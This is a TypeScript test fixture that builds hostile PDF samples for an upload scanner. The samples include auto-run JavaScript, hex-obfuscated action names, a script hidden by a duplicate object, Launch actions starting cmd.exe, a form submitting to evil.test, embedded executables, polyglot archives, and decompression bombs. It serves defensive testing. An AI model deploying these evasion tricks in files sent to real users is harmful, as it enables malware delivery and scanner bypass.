import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib"
import { deflateSync } from "node:zlib"
import type { Hostile } from "./hostile.ts"
import { onePage, pdfOf } from "./pdf.ts"

const script = "<< /S /JavaScript /JS (app.alert(1)) >>"
const zip = Buffer.concat([Buffer.from("PK\u0003\u0004"), Buffer.alloc(60), Buffer.from("PK\u0005\u0006"), Buffer.alloc(18)])

/** Document with most objects in compressed object streams. */
const inStreams = async (add: (document: PDFDocument) => unknown): Promise<Uint8Array> => {
  const document = await PDFDocument.create()
  document.addPage([200, 300])
  await add(document)
  return document.save({ useObjectStreams: true })
}

const annotated = (action: string) =>
  pdfOf(onePage({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 300] /A ${action} >>]` }))
const many = (pages: number) =>
  pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Count ${pages} /Kids [${Array.from({ length: pages }, (_, index) => `${index + 3} 0 R`).join(" ")}] >>`,
    ...Array.from({ length: pages }, () => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] >>")
  ])

/** Document that runs a script. A later object of the same number hides it from a reader that ignores the cross-reference table. */
const hiddenScript = () => {
  const real = pdfOf(onePage({ catalog: `/OpenAction ${script}` })).toString("latin1")
  const hidden = real.replace("xref\n0 4", "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nxref\n0 4")
  const at = hidden.indexOf("xref\n0 4")
  return Buffer.from(hidden.replace(/startxref\n\d+/, `startxref\n${at}`), "latin1")
}

const addName = (document: PDFDocument, key: string, value: object) => {
  const { context } = document
  document.catalog.set(PDFName.of(key), context.register(context.obj({ ...value })))
}
const lateScript = { S: PDFName.of("JavaScript"), JS: PDFString.of("app.alert(1)") }

const pdfs: ReadonlyArray<Omit<Hostile, "name">> = [
  { why: "a script that runs as it opens", make: () => pdfOf(onePage({ catalog: `/OpenAction ${script}` })), fault: "script" },
  {
    why: "a script whose name is written in hex",
    make: () => pdfOf(onePage({ catalog: "/OpenAction << /S /J#61va#53cript /J#53 (1) >>" })),
    fault: "script"
  },
  {
    why: "a script in the tree of names",
    make: () => pdfOf(onePage({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` })),
    fault: "script"
  },
  { why: "a script when a page is shown", make: () => pdfOf(onePage({ page: `/AA << /O ${script} >>` })), fault: "script" },
  {
    why: "a script within an object stream",
    make: () => inStreams((document) => document.addJavaScript("a", "app.alert(1)")),
    fault: "script"
  },
  {
    why: "a script in an object stream that no page leads to",
    make: () => inStreams(({ context }) => context.register(context.obj(lateScript))),
    fault: "script"
  },
  { why: "a script that a later object hides", make: hiddenScript, fault: "script" },
  {
    why: "a program that it starts as it opens",
    make: () => pdfOf(onePage({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" })),
    fault: "script"
  },
  { why: "a program that a link starts", make: () => annotated("<< /S /Launch /F (cmd.exe) >>"), fault: "script" },
  { why: "a program in hex that a link starts", make: () => annotated("<< /S /L#61unch /F (cmd.exe) >>"), fault: "script" },
  { why: "a form that sends itself", make: () => annotated("<< /S /SubmitForm /F (https://evil.test) >>"), fault: "script" },
  {
    why: "an address that opens as it does",
    make: () => pdfOf(onePage({ catalog: "/OpenAction << /S /URI /URI (https://evil.test) >>" })),
    fault: "script"
  },
  {
    why: "an action as it opens, in an object stream",
    make: () => inStreams((document) => addName(document, "OpenAction", { S: PDFName.of("GoToR") })),
    fault: "script"
  },
  {
    why: "a form that is a program (XFA)",
    make: () => pdfOf([...onePage({ catalog: "/AcroForm << /Fields [] /XFA 4 0 R >>" }), ["", Buffer.from("<xdp:xdp/>")]]),
    fault: "script"
  },
  { why: "a file within", make: () => inStreams((document) => document.attach(zip, "evil.zip")), fault: "attachment" },
  {
    why: "a file within, without object streams",
    make: () =>
      pdfOf([
        ...onePage({ catalog: "/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>" }),
        ["/Type /EmbeddedFile", Buffer.from("MZ")]
      ]),
    fault: "attachment"
  },
  {
    why: "a file pinned to a page",
    make: () => pdfOf(onePage({ page: "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a) >> >>]" })),
    fault: "attachment"
  },
  {
    why: "a film",
    make: () => pdfOf(onePage({ page: "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]" })),
    fault: "attachment"
  },
  {
    why: "a password",
    make: () => inStreams((document) => document.encrypt({ userPassword: "a", ownerPassword: "b", permissions: {} })),
    fault: "protected"
  },
  {
    why: "a cipher with an empty password",
    make: () => inStreams((document) => document.encrypt({ userPassword: "", ownerPassword: "b", permissions: {} })),
    fault: "protected"
  },
  { why: "1,000 pages", make: () => many(1_000), fault: "manyPages" },
  { why: "21 pages", make: () => many(21), fault: "manyPages" },
  { why: "an archive behind its end", make: () => Buffer.concat([pdfOf(onePage()), zip]), fault: "content" },
  { why: "an archive within its last bytes", make: () => pdfOf([...onePage(), ["", zip]]), fault: "content" },
  {
    why: "a page behind its end",
    make: () => Buffer.concat([pdfOf(onePage()), Buffer.from("<script>alert(1)</script>")]),
    fault: "content"
  },
  { why: "a page in its first bytes", make: () => pdfOf(onePage(), { header: "%<script>alert(1)</script>\n" }), fault: "content" },
  { why: "an archive before its beginning", make: () => Buffer.concat([zip, pdfOf(onePage())]), fault: "content" },
  { why: "half of it", make: () => pdfOf(onePage()).subarray(0, 200), fault: "broken" },
  { why: "nothing but its signature and its end", make: () => Buffer.from("%PDF-1.7\n%%EOF"), fault: "broken" },
  {
    why: "a tree of pages that leads to itself",
    make: () => pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
    fault: "broken"
  },
  { why: "a list 200,000 lists deep", make: () => pdfOf([...onePage(), "[".repeat(200_000) + "]".repeat(200_000)]), fault: "broken" },
  { why: "a place to open at", make: () => pdfOf(onePage({ catalog: "/OpenAction [3 0 R /Fit]" })), fault: null },
  { why: "a page of endless size", make: () => pdfOf(onePage({ box: "0 0 200000000 300000000" })), fault: null },
  { why: "an image of 40,000 × 40,000 px", make: () => imageOf(40_000, 40_000), fault: null }
]
export const hostilePdfs: ReadonlyArray<Hostile> = pdfs.map((each) => ({ name: "scan.pdf", ...each }))

/** A page with an image that decompresses to one byte per pixel. */
function imageOf(width: number, height: number): Buffer {
  const image = `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`
  return pdfOf([
    ...onePage({ page: "/Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >>" }),
    ["", Buffer.from("200 0 0 300 0 0 cm /I Do")],
    [image, deflateSync(Buffer.alloc(1_000_000))]
  ])
}
